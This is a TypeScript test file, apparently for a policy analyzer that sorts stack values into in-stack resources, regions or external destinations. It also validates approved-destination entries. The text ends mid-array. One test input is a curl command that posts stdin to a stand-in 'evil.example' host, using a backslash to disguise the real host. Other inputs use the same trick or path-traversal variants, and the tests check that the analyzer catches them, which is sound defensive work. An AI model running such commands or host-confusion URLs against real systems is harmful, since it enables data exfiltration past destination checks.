/**
 * Issue 20: how values resolve to places (destinations.ts, hosts.ts), how approved external destinations are
 * validated and matched (externalDestinations.ts), and that only types proven inert stop a taint.
 */
import { Destinations, type NamedPlace, type PassedOnFrom, zonePlace } from "../../policies/model/destinations";
import { approvedExternal, destinationMatches, destinationPatternProblem, type ExternalDestination } from "../../policies/model/externalDestinations";
import { ResourceIndex, type ModelResource } from "../../policies/model/graph";
import { bareHost, emailDomain, phoneUri } from "../../policies/model/hosts";
import { PROVEN_INERT } from "../../policies/model/catalogue/inert";
import { parseSettings } from "../../policies/model/settings";
import { buildStackModel } from "../../policies/model/stackModel";
import { resource, singapore, virginia } from "./modelResources";

const users = resource("aws:s3/bucket:Bucket", "users", { bucket: "acme-users", tags: { "data-class": "us-user-data" } });
const mirror = resource("aws:s3/bucket:Bucket", "mirror", { bucket: "acme-mirror", tags: { "data-class": "non-us-user-data" } }, singapore);
const queue = resource("aws:sqs/queue:Queue", "jobs", { name: "jobs", tags: { "data-class": "us-user-data" } });
const fn = resource("aws:lambda/function:Function", "fn", {});
const index = new ResourceIndex([users, mirror, queue, fn]);

function placesOf(value: string, key = "value"): NamedPlace["place"][] {
    const out: NamedPlace[] = [];
    new Destinations(index).inString(value, key, () => key, fn, out);
    return out.map((p) => p.place);
}
const names = (p: NamedPlace["place"]) => (p.kind === "resources" ? p.resources.map((r) => r.name) : p);

describe("values resolve to places", () => {
    test.each([
        ["s3://acme-mirror/x/y", "value", ["mirror"]],
        ["arn:aws:s3:::acme-users/*", "value", ["users"]],
        ["https://acme-mirror.s3.amazonaws.com/", "value", ["mirror"]],
        ["https://sqs.us-east-1.amazonaws.com/111122223333/jobs", "value", ["jobs"]],
        ["acme-users/exports/latest.csv", "CopySource", ["users"]],
        ['{"Parameters":{"Bucket":"acme-mirror"}}', "definition", ["mirror"]],
        ["acme-users", "anything", ["users"]],
    ])("%s (%s) names %j", (value, key, expected) => {
        expect(placesOf(value, key).map(names)).toEqual([expected]);
    });

    test.each([
        ["https://hooks.partner.example/x", { kind: "external", uri: "https://hooks.partner.example/x" }],
        ["hooks.partner.example", { kind: "external", uri: "hooks.partner.example" }],
        ["db.partner.example:5432", { kind: "external", uri: "db.partner.example" }],
        ["ops@partner.example", { kind: "external", uri: "mailto:ops@partner.example" }],
        ["+6561234567", { kind: "external", uri: "tel:+6561234567" }],
        ["s3://partner-drop/x", { kind: "external", uri: "s3://partner-drop/x" }],
        ["https://dynamodb.ap-southeast-1.amazonaws.com", { kind: "location", location: "aws:ap-southeast-1" }],
        ["https://objectstorage.ap-singapore-1.oraclecloud.com", { kind: "location", location: "oci:ap-singapore-1" }],
        ["apse1-az2", { kind: "location", location: "aws:ap-southeast-1" }],
        ["ap-southeast-1b", { kind: "location", location: "aws:ap-southeast-1" }],
        // A store's own regional endpoint names only its region.
        ["https://s3-fips.dualstack.us-east-1.amazonaws.com", { kind: "location", location: "aws:us-east-1" }],
        ["https://sqs.us-east-1.amazonaws.com", { kind: "location", location: "aws:us-east-1" }],
        ["https://s3-us-west-2.amazonaws.com", { kind: "location", location: "aws:us-west-2" }],
        ["https://dynamodb.ap-southeast-1.api.aws", { kind: "location", location: "aws:ap-southeast-1" }],
        // A directory bucket's zonal host is that bucket, outside the stack here.
        ["https://users--use1-az4--x-s3.s3express-use1-az4.us-east-1.amazonaws.com/k", { kind: "external", uri: "s3://users--use1-az4--x-s3/k" }],
    ])("%s is %j", (value, expected) => {
        expect(placesOf(value)).toEqual([expected]);
    });

    // A store outside the stack is external even in an approved region: the stack or account that owns it decides its
    // class, who may read it and where it copies it. Its ARN and its queue URL are matched to the stack's own exactly;
    // an OCID (a resource's id, which the analyzer is not sent) or a customer's host of a store (the stores' own hosts
    // are listed only in part) says what it would be if passed on from a resource of the stack (below).
    const rds = ["rds", "docdb", "neptune"];
    test.each<[string, string, string, PassedOnFrom | undefined]>([
        [
            "https://sqs.us-east-1.amazonaws.com/999988887777/partner-jobs",
            "https://sqs.us-east-1.amazonaws.com/999988887777/partner-jobs",
            "aws:us-east-1",
            undefined,
        ],
        [
            "arn:aws:dynamodb:us-east-1:999988887777:table/partner-users",
            "arn:aws:dynamodb:us-east-1:999988887777:table/partner-users",
            "aws:us-east-1",
            undefined,
        ],
        ["arn:aws:kinesis:us-east-1:111122223333:stream/intake", "arn:aws:kinesis:us-east-1:111122223333:stream/intake", "aws:us-east-1", undefined],
        ["arn:aws:sqs:us-east-1:111122223333:other-stack-jobs", "arn:aws:sqs:us-east-1:111122223333:other-stack-jobs", "aws:us-east-1", undefined],
        [
            "ocid1.stream.oc1.iad.amaaaaaaintake",
            "ocid1.stream.oc1.iad.amaaaaaaintake",
            "oci:us-ashburn-1",
            { store: "ocid1.stream.oc1.iad.amaaaaaaintake", location: "oci:us-ashburn-1", ociKind: "stream" },
        ],
        [
            "ocid1.onstopic.oc1.phx.aaaaoncall",
            "ocid1.onstopic.oc1.phx.aaaaoncall",
            "oci:us-phoenix-1",
            { store: "ocid1.onstopic.oc1.phx.aaaaoncall", location: "oci:us-phoenix-1", ociKind: "onstopic" },
        ],
        [
            "users.abc123.us-east-1.rds.amazonaws.com:5432",
            "users.abc123.us-east-1.rds.amazonaws.com",
            "aws:us-east-1",
            { store: "users.abc123.us-east-1.rds.amazonaws.com", location: "aws:us-east-1", awsModules: rds },
        ],
        [
            "https://search-logs-abc.us-east-1.es.amazonaws.com",
            "https://search-logs-abc.us-east-1.es.amazonaws.com",
            "aws:us-east-1",
            { store: "search-logs-abc.us-east-1.es.amazonaws.com", location: "aws:us-east-1", awsModules: ["opensearch", "elasticsearch"] },
        ],
        [
            "https://111122223333.dkr.ecr.us-east-1.amazonaws.com/app",
            "https://111122223333.dkr.ecr.us-east-1.amazonaws.com/app",
            "aws:us-east-1",
            { store: "111122223333.dkr.ecr.us-east-1.amazonaws.com", location: "aws:us-east-1", awsModules: ["ecr"] },
        ],
        [
            "fs-0abc.efs.us-east-1.amazonaws.com",
            "fs-0abc.efs.us-east-1.amazonaws.com",
            "aws:us-east-1",
            { store: "fs-0abc.efs.us-east-1.amazonaws.com", location: "aws:us-east-1", awsModules: ["efs"] },
        ],
        [
            "https://reports-111122223333.s3-accesspoint.us-east-1.amazonaws.com/x",
            "https://reports-111122223333.s3-accesspoint.us-east-1.amazonaws.com/x",
            "aws:us-east-1",
            { store: "reports-111122223333.s3-accesspoint.us-east-1.amazonaws.com", location: "aws:us-east-1", awsModules: ["s3", "s3control"] },
        ],
    ])("%s is a store outside the stack", (value, uri, location, passedOnFrom) => {
        const note = expect.stringContaining(`a store outside this stack, in ${location}`);
        expect(placesOf(value)).toEqual([passedOnFrom ? { kind: "external", uri, note, passedOnFrom } : { kind: "external", uri, note }]);
    });

    test("an Object Storage URL names its bucket, a pre-authenticated request's too: the stack's, or one outside it by its oci:// name", () => {
        const ociIndex = new ResourceIndex([resource("oci:ObjectStorage/bucket:Bucket", "docs", { name: "docs", namespace: "ns" }), fn]);
        const ociPlaces = (v: string) => {
            const out: NamedPlace[] = [];
            new Destinations(ociIndex).inString(v, "value", () => "value", fn, out);
            return out.map((p) => p.place);
        };
        expect(ociPlaces("https://objectstorage.us-ashburn-1.oraclecloud.com/n/ns/b/docs/o/a.pdf").map(names)).toEqual([["docs"]]);
        expect(ociPlaces("https://objectstorage.us-ashburn-1.oraclecloud.com/n/partnerns/b/partner-drop/o/in")).toEqual([
            { kind: "external", uri: "oci://partner-drop@partnerns/o/in" },
        ]);
        expect(ociPlaces("https://objectstorage.us-ashburn-1.oraclecloud.com/p/Zk3token/n/partnerns/b/partner-drop/o/")).toEqual([
            { kind: "external", uri: "oci://partner-drop@partnerns/o/" },
        ]);
    });

    // An OCID or a store's host the program passes on from a resource of the stack is told by the property's
    // dependencies: one of them (or a child of one) of the OCID's kind or the host's service, where the value says. A
    // stack reference is another stack's: its outputs are outside this one.
    describe("a value passed on from a resource of the stack", () => {
        const ashburn = { type: "pulumi:providers:oci", name: "ashburn", urn: "urn:p:ashburn", props: { region: "us-ashburn-1" } };
        const phoenix = { type: "pulumi:providers:oci", name: "phoenix", urn: "urn:p:phoenix", props: { region: "us-phoenix-1" } };
        const stream = resource("oci:Streaming/stream:Stream", "events", { name: "events" }, ashburn);
        const farStream = resource("oci:Streaming/stream:Stream", "far-events", { name: "far-events" }, phoenix);
        const ociBucket = resource("oci:ObjectStorage/bucket:Bucket", "docs", { name: "docs", namespace: "ns" }, ashburn);
        const database = resource("aws:rds/instance:Instance", "orders", { identifier: "orders" });
        const store = resource("acme:storage:OrdersStore", "store", {}, undefined, { custom: false });
        const child = resource("aws:rds/instance:Instance", "store-db", { identifier: "store-db" }, virginia, { parent: { urn: store.urn } });
        const reference = { ...resource("pulumi:pulumi:StackReference", "shared", { name: "org/shared/prod" }), custom: true };
        const usersTable = resource("aws:dynamodb/table:Table", "users", { name: "users" });
        const OCID = "ocid1.stream.oc1.iad.amaaaaaaevents";
        const HOST = "users.abc123.us-east-1.rds.amazonaws.com";

        test.each<[string, string, ModelResource[], "placed" | "outside"]>([
            ["an OCID, from a stream where it says", OCID, [stream], "placed"],
            ["an OCID, from a bucket (another kind)", OCID, [ociBucket], "outside"],
            ["an OCID, from a stream in another region", OCID, [farStream], "outside"],
            ["an OCID, from nothing", OCID, [], "outside"],
            ["an OCID, from a stack reference", OCID, [reference], "outside"],
            ["a database's host, from a database where it says", HOST, [database], "placed"],
            ["a database's host, from a component whose child is one", HOST, [store], "placed"],
            ["a database's host, from a table (another service)", HOST, [usersTable], "outside"],
            ["a database's host, from a stack reference", HOST, [reference], "outside"],
        ])("%s: %s", (_what, value, from, expected) => {
            const sender = resource("oci:Sch/connector:Connector", "sender", { target: { streamId: value } }, ashburn, {
                propertyDependencies: { target: from.map((r) => ({ urn: r.urn })) },
            });
            const out: NamedPlace[] = [];
            const places = new Destinations(new ResourceIndex([stream, farStream, ociBucket, database, store, child, reference, usersTable, sender]));
            places.inString(value, "streamId", () => "target.streamId", sender, out);
            places.settlePassedOn(sender, out);
            expect(out.map((p) => p.place.kind)).toEqual([expected === "placed" ? "location" : "external"]);
        });

        // Dependencies are recorded per top-level property: a literal written beside a value passed on, in the same map,
        // list or document, depends on what that value depends on. Each value needs a resource of its own.
        const otherStream = resource("oci:Streaming/stream:Stream", "audit", { name: "audit" }, ashburn);
        const FOREIGN = "ocid1.stream.oc1.iad.amaaaaaaforeign";
        const BUCKET_OCID = "ocid1.bucket.oc1.iad.aaaaaaaadocs";
        test.each<[string, Record<string, string>, ModelResource[], Record<string, "placed" | "outside">]>([
            ["one value from the one stream it depends on", { A: OCID }, [stream], { A: "placed" }],
            ["the same value twice, from one stream", { A: OCID, B: OCID }, [stream], { A: "placed", B: "placed" }],
            ["a literal beside a value from the one stream it depends on", { A: OCID, B: FOREIGN }, [stream], { A: "outside", B: "outside" }],
            ["two values, from the two streams it depends on", { A: OCID, B: FOREIGN }, [stream, otherStream], { A: "placed", B: "placed" }],
            ["two values, from one stream and a bucket (another kind)", { A: OCID, B: FOREIGN }, [stream, ociBucket], { A: "outside", B: "outside" }],
            ["a bucket's OCID beside a stream's, from the stream", { A: OCID, B: BUCKET_OCID }, [stream], { A: "placed", B: "outside" }],
            [
                "one database's host in two URLs, from the database",
                { A: `postgres://${HOST}:5432/a`, B: `postgres://${HOST}:5432/b` },
                [database],
                { A: "placed", B: "placed" },
            ],
            [
                "two databases' hosts, from one database",
                { A: HOST, B: "analytics.abc123.us-east-1.rds.amazonaws.com" },
                [database],
                { A: "outside", B: "outside" },
            ],
        ])("%s", (_what, variables, from, expected) => {
            const fn = resource("oci:Functions/function:Function", "relay", { config: variables }, ashburn, {
                propertyDependencies: { config: from.map((r) => ({ urn: r.urn })) },
            });
            const out: NamedPlace[] = [];
            const places = new Destinations(new ResourceIndex([stream, otherStream, ociBucket, database, fn]));
            for (const [k, v] of Object.entries(variables)) places.inString(v, k, () => `config.${k}`, fn, out);
            places.settlePassedOn(fn, out);
            expect(Object.fromEntries(out.map((p) => [p.path.slice("config.".length), p.place.kind === "location" ? "placed" : "outside"]))).toEqual(expected);
            for (const p of out.filter((x) => x.place.kind === "external" && variables.B === FOREIGN)) {
                expect((p.place as { note?: string }).note).toMatch(/'config' holds 2 such values and depends on fewer resources/);
            }
        });
    });

    test("an OCID of an image (read from, never sent to), a network or an identity is no destination outside the stack", () => {
        expect(placesOf("ocid1.image.oc1.iad.aaaaimage")).toEqual([{ kind: "location", location: "oci:us-ashburn-1" }]);
        expect(placesOf("ocid1.subnet.oc1.phx.aaaasubnet")).toEqual([{ kind: "location", location: "oci:us-phoenix-1" }]);
    });

    test("a store ARN with a wildcard (a grant's, a selection's) is judged by its region", () => {
        expect(placesOf("arn:aws:dynamodb:us-east-1:111122223333:table/*")).toEqual([{ kind: "location", location: "aws:us-east-1" }]);
    });

    // Any other AWS host answers in its region but may pass what it is sent on to any region: external, whatever
    // region it names. A service left off the list of stores is a false alarm, never a pass.
    test.each([
        "https://abc123.execute-api.us-east-1.amazonaws.com/prod",
        "https://abcdefgh.lambda-url.us-east-1.on.aws/",
        "https://xyz.appsync-api.us-east-1.amazonaws.com/graphql",
        "internal-users-alb-123.us-east-1.elb.amazonaws.com",
        "a1b2c3-ats.iot.us-east-1.amazonaws.com",
        "https://sns.us-east-1.amazonaws.com",
        "email-smtp.us-east-1.amazonaws.com",
        "https://events.us-east-1.amazonaws.com",
        "https://firehose.us-east-1.amazonaws.com",
        "https://vpce-0a1b-2c3d.execute-api.us-east-1.vpce.amazonaws.com/prod",
        "ec2-3-80-1-2.us-east-1.compute.amazonaws.com",
        "https://ap-1-111122223333.s3-object-lambda.us-east-1.amazonaws.com/x",
        "https://s3-control.us-east-1.amazonaws.com",
    ])("%s is an external destination, though it names a US region", (value) => {
        const [place, ...rest] = placesOf(value);
        expect(rest).toEqual([]);
        expect(place).toMatchObject({ kind: "external", note: expect.stringContaining("may pass on what it is sent") });
        expect(place.kind === "external" && place.uri).toContain(value.replace(/^https:\/\//, "").split("/")[0]);
    });

    test.each([
        ["index.handler"],
        ["db.r6g.large"],
        ["app.py"],
        ["main.tf"],
        ["arn:aws:iam::111122223333:role/x"],
        ["ocid1.compartment.oc1..aaaa"],
        ["lambda.amazonaws.com"],
        ["2012-10-17"],
        ["16.4"],
    ])("%s names no place", (value) => {
        expect(placesOf(value)).toEqual([]);
    });

    test("a bucket name under a bucket key outside the stack is external; IAM principals are identities", () => {
        expect(placesOf("partner-drop", "s3BucketName")).toEqual([{ kind: "external", uri: "s3://partner-drop" }]);
        expect(
            placesOf(
                JSON.stringify({ Statement: [{ Principal: { Service: "logging.s3.amazonaws.com" }, Resource: "arn:aws:s3:::acme-users" }] }),
                "policy",
            ).map(names),
        ).toEqual([["users"]]);
    });

    test("regionless ARNs and OCIDs outside the stack, Local Zones and edge hosts are unknown", () => {
        for (const v of ["arn:aws:cloudfront::111122223333:distribution/E1", "ocid1.bucket.oc1..aaaa", "us-west-2-lax-1a", "d111.cloudfront.net"]) {
            expect(placesOf(v).map((p) => p.kind)).toEqual(["unknown"]);
        }
        expect(zonePlace("use1-bos1-az1")?.kind).toBe("unknown");
    });

    test("a backslash in a URL's host part is unknown, whole or in text: parsers disagree on the host it reaches", () => {
        for (const v of [
            "https://evil.example\\@s3.us-east-1.amazonaws.com/x",
            "https://hooks.partner.example\\@evil.example/x",
            "curl -d @- https://evil.example\\@s3.us-east-1.amazonaws.com/x",
        ]) {
            expect(placesOf(v).map((p) => p.kind)).toEqual(["unknown"]);
        }
        expect(placesOf("https://dynamodb.us-east-1.amazonaws.com/a\\b")).toEqual([{ kind: "location", location: "aws:us-east-1" }]);
    });

    test("a bucket outside the stack named in an S3 host or path is that bucket, not the region the host names (S3 redirects to the bucket's own)", () => {
        expect(placesOf("https://partner-eu-drop.s3.us-east-1.amazonaws.com/in/x.csv")).toEqual([{ kind: "external", uri: "s3://partner-eu-drop/in/x.csv" }]);
        expect(placesOf("https://s3.us-east-1.amazonaws.com/partner-eu-drop/in/x.csv")).toEqual([{ kind: "external", uri: "s3://partner-eu-drop/in/x.csv" }]);
        expect(placesOf("https://partner-eu-drop.s3-website-us-east-1.amazonaws.com/")).toEqual([{ kind: "external", uri: "s3://partner-eu-drop/" }]);
        // The stack's own bucket by host.
        expect(placesOf("https://acme-mirror.s3.ap-southeast-1.amazonaws.com/x").map(names)).toEqual([["mirror"]]);
    });

    // An ARN outside the stack of what passes data on is external (stores: above).
    test.each([
        ["arn:aws:sns:us-east-1:999988887777:intake", { kind: "external", uri: "arn:aws:sns:us-east-1:999988887777:intake" }],
        ["arn:aws:lambda:us-east-1:999988887777:function:relay", { kind: "external", uri: "arn:aws:lambda:us-east-1:999988887777:function:relay" }],
        ["arn:aws:events:us-east-1:999988887777:event-bus/partner", { kind: "external", uri: "arn:aws:events:us-east-1:999988887777:event-bus/partner" }],
        ["arn:aws:logs:us-east-1:999988887777:destination:central", { kind: "external", uri: "arn:aws:logs:us-east-1:999988887777:destination:central" }],
    ])("the ARN %s is %j", (value, expected) => {
        expect(placesOf(value)).toEqual([expected.kind === "external" ? { ...expected, note: expect.stringContaining("may pass on") } : expected]);
    });

    test("an ECS task definition's ARN names the stack's task definition by its family", () => {
        const taskDefinition = resource("aws:ecs/taskDefinition:TaskDefinition", "app", { family: "users-app", tags: { "data-class": "us-user-data" } });
        const idx = new ResourceIndex([taskDefinition]);
        expect(idx.matchValue("arn:aws:ecs:us-east-1:111122223333:task-definition/users-app:3")).toEqual([taskDefinition]);
        expect(idx.matchValue("arn:aws:ecs:us-east-1:111122223333:task-definition/other-app:3")).toEqual([]);
    });

    test("a certificate's ARN names no place: it is an identity", () => {
        expect(placesOf("arn:aws:acm:us-east-1:111122223333:certificate/0a1b")).toEqual([]);
    });

    test("an API Gateway integration's ARN names what its path names, not API Gateway's region", () => {
        const integration = (target: string) => placesOf(`arn:aws:apigateway:us-east-1:${target}`, "uri").map(names);
        expect(integration("s3:path/partner-drop/in/{key}")).toEqual([{ kind: "external", uri: "s3://partner-drop/in/{key}" }]);
        expect(integration("acme-mirror.s3:path/{key}")).toEqual([["mirror"]]);
        expect(integration("sqs:path/111122223333/jobs")).toEqual([["jobs"]]);
        expect(integration("dynamodb:action/PutItem")).toEqual([{ kind: "location", location: "aws:us-east-1" }]);
        // An action of a service that passes data on acts on what the request template names: external, approvable.
        expect(integration("events:action/PutEvents")).toEqual([
            { kind: "external", uri: "arn:aws:apigateway:us-east-1:events:action/PutEvents", note: expect.stringContaining("request template") },
        ]);
        expect(destinationPatternProblem("arn:aws:apigateway:us-east-1:events:action/PutEvents")).toBeUndefined();
        expect(integration("lambda:path/2015-03-31/functions/arn:aws:lambda:ap-southeast-1:999988887777:function:sink/invocations")).toEqual([
            { kind: "external", uri: "arn:aws:lambda:ap-southeast-1:999988887777:function:sink", note: expect.stringContaining("outside this stack") },
        ]);
    });

    test("a URL of a special scheme without '//' is read as WHATWG parsers (Node's fetch) read it; a protocol and port is no URL", () => {
        for (const v of ["https:hooks.partner.example/x", "https:/hooks.partner.example/x", "notify https:hooks.partner.example/x now"]) {
            expect(placesOf(v)).toEqual([{ kind: "external", uri: "https://hooks.partner.example/x" }]);
        }
        expect(placesOf("https:dynamodb.ap-southeast-1.amazonaws.com")).toEqual([{ kind: "location", location: "aws:ap-southeast-1" }]);
        expect(placesOf("https:\\\\evil.example/x").map((p) => p.kind)).toEqual(["unknown"]);
        expect(placesOf("HTTP:80/health")).toEqual([]);
        expect(placesOf("HTTPS:443")).toEqual([]);
    });

    test("a JSON document longer than the pack reads is unknown, not read in part as naming nothing", () => {
        const doc = (n: number) => JSON.stringify({ steps: [{ url: "https://hooks.partner-eu.example/x" }, ...Array.from({ length: n }, (_, i) => `v${i}`)] });
        expect(placesOf(doc(6_000), "definition").map((p) => p.kind)).toContain("unknown");
        expect(placesOf(doc(100), "definition")).toEqual([{ kind: "external", uri: "https://hooks.partner-eu.example/x" }]);
    });

    test("hosts, emails and phones are read by shape", () => {
        expect(bareHost("api.partner.example:443")).toBe("api.partner.example");
        expect(bareHost("README.md")).toBeUndefined();
        expect(emailDomain("mailto:a.b@partner.example")).toBe("partner.example");
        expect(phoneUri("+1 (555) 010-0001")).toBe("tel:+15550100001");
    });
});

describe("approved external destinations", () => {
    test.each([
        ["*", /only of wildcards/],
        ["https://*", /only of wildcards/],
        ["*.com", /two labels/],
        ["api.*.example", /may only start/],
        ["https://hooks.partner.example/a*b", /may only end in '\/\*'/],
        ["mailto:not-an-address", /mailto/],
        ["tel:12345", /tel/],
        ["arn:aws:sns:us-east-1:111122223333:*", /exact ARN/],
        ["arn:aws:sns:*:111122223333:intake", /exact ARN/],
        ["arn:aws:sns:us-east-1::intake", /exact ARN/],
        ["arn:aws:sns:us-east-1:111122223333", /exact ARN/],
        ["ocid1.stream.oc1.iad.*", /exact OCID/],
        ["ocid1.stream", /exact OCID/],
    ])("the pattern %s is rejected", (pattern, problem) => {
        expect(destinationPatternProblem(pattern)).toMatch(problem);
    });

    test.each([
        ["*.partner.example", "https://hooks.partner.example/x", true],
        ["*.partner.example", "https://partner.example/x", false],
        ["*.partner.example", "mailto:ops@mail.partner.example", true],
        ["partner.example", "mailto:ops@partner.example", true],
        ["https://hooks.partner.example/services/*", "https://hooks.partner.example/services/T1/B2", true],
        ["https://hooks.partner.example/services/*", "http://hooks.partner.example/services/T1", false],
        ["https://hooks.partner.example/services/*", "https://hooks.partner.example/other", false],
        ["s3://partner-drop/*", "s3://partner-drop/acme/x", true],
        ["s3://partner-drop/*", "s3://partner-drop-eu/x", false],
        ["tel:+15550100001", "tel:+15550100001", true],
        ["https://hooks.partner.example/services/T01/*", "https://hooks.partner.example/services/T01/../T02/x", false],
        ["https://hooks.partner.example/services/T01/*", "https://hooks.partner.example/services/T01/%2e%2e/T02", false],
        ["https://hooks.partner.example/services/T01/*", "https://hooks.partner.example/services/T01/..%2fT02", false],
        ["https://hooks.partner.example/services/T01/*", "https://hooks.partner.example/services/T01/v1.2/x", true],
        ["arn:aws:sns:us-east-1:111122223333:intake", "arn:aws:sns:us-east-1:111122223333:intake", true],
        ["arn:aws:sns:us-east-1:111122223333:intake", "arn:aws:sns:us-east-1:111122223333:intake-eu", false],
        ["arn:aws:sns:us-east-1:111122223333:intake", "arn:aws:sns:ap-southeast-1:111122223333:intake", false],
        ["ocid1.stream.oc1.iad.amaaaaaaintake", "ocid1.stream.oc1.iad.amaaaaaaintake", true],
        ["ocid1.stream.oc1.iad.amaaaaaaintake", "ocid1.stream.oc1.iad.amaaaaaaintake2", false],
        ["arn:aws:backup:us-east-1:$account:backup-vault:Default", "arn:aws:backup:us-east-1:$account:backup-vault:Default", true],
        // A host pattern never covers an ARN, whatever text the ARN ends with.
        ["*.partner.example", "arn:aws:lambda:us-east-1:111122223333:function:x.partner.example", false],
    ])("%s covers %s: %s", (pattern, uri, expected) => {
        expect(destinationMatches(pattern, uri)).toBe(expected);
    });

    const entry = (over: Partial<ExternalDestination> = {}): Record<string, unknown> => ({
        destination: "*.partner.example",
        location: "country:US",
        dataClasses: ["us-user-data"],
        reason: "Contracted processor in the United States",
        ticket: "PRIV-1",
        expires: "2027-03-01",
        ...over,
    });
    const parse = (entries: unknown) => parseSettings({ approvedExternalDestinations: entries }, [], "2026-12-01");

    test("a valid entry approves its classes until it expires; nothing else passes", () => {
        const { settings, problems } = parse([entry()]);
        expect(problems).toEqual([]);
        const approved = settings.approvedExternalDestinations;
        expect(approvedExternal(approved, "https://hooks.partner.example/x", "us-user-data", "2026-12-01")).toBeDefined();
        expect(approvedExternal(approved, "https://hooks.partner.example/x", "non-us-user-data", "2026-12-01")).toBeUndefined();
        expect(approvedExternal(approved, "https://hooks.partner.example/x", "us-user-data", "2027-03-02")).toBeUndefined();
        expect(approvedExternal(approved, "https://evil.example/x", "us-user-data", "2026-12-01")).toBeUndefined();
    });

    test.each([
        ["arn:aws:sqs:us-east-1:111122223333:users", "aws:us-east-1"],
        ["arn:aws:sqs:us-east-1:111122223333:users", "country:US"],
        ["arn:aws:backup:us-east-1:$account:backup-vault:Default", "country:US"],
        ["ocid1.stream.oc1.iad.amaaaaaa", "oci:us-ashburn-1"],
        ["ocid1.stream.oc1.us-phoenix-1.amaaaaaa", "country:US"],
    ])("an entry for %s in %s is valid and approves it", (destination, location) => {
        const { settings, problems } = parse([entry({ destination, location })]);
        expect(problems).toEqual([]);
        expect(approvedExternal(settings.approvedExternalDestinations, destination, "us-user-data", "2026-12-01")).toBeDefined();
    });

    test.each([
        [entry({ reason: "short" }), /at least 20 characters/],
        [entry({ ticket: "" }), /lacks ticket/],
        [entry({ expires: "2027-02-30" }), /not an ISO date/],
        [entry({ expires: "2028-06-01" }), /more than 366 days away/],
        [entry({ destination: "*.*" }), /only of wildcards/],
        [entry({ location: "mars" }), /neither a location/],
        [entry({ dataClasses: ["secret"] as never }), /not a data class/],
        [entry({ dataClasses: [] }), /lacks dataClasses/],
        [{ ...entry(), extra: 1 }, /unknown keys extra/],
        // An entry must say where a destination that names its region is: that region, or its country.
        [
            entry({ destination: "arn:aws:sqs:ap-southeast-1:111122223333:users", location: "aws:us-east-1" }),
            /'aws:us-east-1' is not where 'arn:aws:sqs:ap-southeast-1:111122223333:users' is: it names aws:ap-southeast-1/,
        ],
        [entry({ destination: "arn:aws:sqs:ap-southeast-1:111122223333:users", location: "country:US" }), /names aws:ap-southeast-1/],
        [entry({ destination: "ocid1.stream.oc1.sin.amaaaaaa", location: "oci:us-ashburn-1" }), /names oci:ap-singapore-1/],
    ])("an invalid entry is reported and approves nothing (%#)", (raw, problem) => {
        const { settings, problems } = parse([raw]);
        expect(problems.join("\n")).toMatch(problem);
        expect(settings.approvedExternalDestinations).toEqual([]);
    });
});

describe("taint reaches every category but types proven inert", () => {
    const table = resource("aws:dynamodb/table:Table", "users-table", { name: "users-table", tags: { "data-class": "us-user-data" } });
    /** The property paths of the destinations `r` names, beside the US table. */
    const paths = (r: ModelResource) =>
        buildStackModel([table, r])
            .destinations.filter((d) => d.carrier === r)
            .map((d) => d.path);
    const dep = (r: ModelResource) => ({ dashboardBody: [{ urn: r.urn }] });

    test("a dashboard (reference) that depends on a US table holds US data; a proven-inert type does not", () => {
        const dashboard = resource("aws:cloudwatch/dashboard:Dashboard", "ops", { dashboardBody: "{}" }, singapore, { propertyDependencies: dep(table) });
        const inertType = Object.keys(PROVEN_INERT)[0];
        const inert = resource(
            inertType,
            "suffix",
            { keepers: { table: "users-table" } },
            { type: "pulumi:providers:random", name: "r", urn: "urn:p:r", props: {} },
        );
        const model = buildStackModel([table, dashboard, inert]);
        expect(model.facts.get(dashboard.urn)?.effectiveClass).toBe("us-user-data");
        expect(model.facts.get(inert.urn)?.effectiveClass).toBeUndefined();
    });

    test("dependsOn and a custom parent pass a class to any category", () => {
        const alarm = resource("aws:cloudwatch/metricAlarm:MetricAlarm", "alarm", { name: "a" }, virginia, { dependencies: [{ urn: table.urn }] });
        const child = resource("aws:ssm/association:Association", "child", { name: "AWS-RunShellScript" }, virginia, { parent: { urn: table.urn } });
        const model = buildStackModel([table, alarm, child]);
        expect(model.facts.get(alarm.urn)?.effectiveClass).toBe("us-user-data");
        expect(model.facts.get(child.urn)?.effectiveClass).toBe("us-user-data");
    });

    test("an IAM principal in a policy document given as an object is an identity, not a destination, as in one given as JSON text", () => {
        const policy = (principal: unknown) => ({ Version: "2012-10-17", Statement: [{ Effect: "Allow", Principal: principal, Action: "sts:AssumeRole" }] });
        const role = resource("aws:iam/role:Role", "sfn-role", {
            assumeRolePolicy: policy({ Service: ["states.us-east-1.amazonaws.com"], AWS: "arn:aws:iam::111122223333:role/x" }),
            tags: { "data-class": "us-user-data" },
        });
        expect(paths(role)).toEqual([]);
        // The same host anywhere else in its inputs is read.
        const described = resource("aws:iam/role:Role", "sfn-role", {
            ...(role.props as Record<string, unknown>),
            description: "states.us-east-1.amazonaws.com",
        });
        expect(paths(described)).toEqual(["description"]);
    });

    test("a permission's caller and a connector's plugins are not where data goes; the same ARN elsewhere is", () => {
        const partnerTopic = "arn:aws:sns:us-east-1:999988887777:partner-topic";
        const permission = (props: Record<string, unknown>) =>
            resource("aws:lambda/permission:Permission", "allow", props, virginia, { dependencies: [{ urn: table.urn }] });
        expect(paths(permission({ action: "lambda:InvokeFunction", function: "users-fn", principal: "sns.amazonaws.com", sourceArn: partnerTopic }))).toEqual(
            [],
        );
        const plugin = "arn:aws:kafkaconnect:us-east-1:999988887777:custom-plugin/jdbc/1";
        const connector = resource("aws:mskconnect/connector:Connector", "sink", { plugins: [{ customPlugin: { arn: plugin, revision: 1 } }] }, virginia, {
            dependencies: [{ urn: table.urn }],
        });
        expect(paths(connector)).toEqual([]);
        const alarm = resource("aws:cloudwatch/metricAlarm:MetricAlarm", "alarm", { alarmActions: [partnerTopic] }, virginia, {
            dependencies: [{ urn: table.urn }],
        });
        expect(paths(alarm)).toEqual(["alarmActions[0]"]);
    });

    test("a resource's own names and a schema's identifiers are not where data goes; the same values elsewhere are", () => {
        const us = { "data-class": "us-user-data" };
        const site = "www.shop.example";
        const own: ModelResource[] = [
            resource("aws:acm/certificate:Certificate", "cert", {
                domainName: site,
                subjectAlternativeNames: [`api.${site}`],
                validationMethod: "DNS",
                tags: us,
            }),
            resource("aws:cloudfront/distribution:Distribution", "cdn", { aliases: [site], tags: us }),
            resource("aws:apigateway/domainName:DomainName", "domain", { domainName: `api.${site}`, tags: us }),
            resource("aws:route53/record:Record", "www", { name: site, type: "A", zoneId: "Z123", records: ["192.0.2.10"] }, virginia, {
                dependencies: [{ urn: table.urn }],
            }),
            resource("aws:lb/listenerRule:ListenerRule", "rule", { conditions: [{ hostHeader: { values: [site] } }], tags: us }),
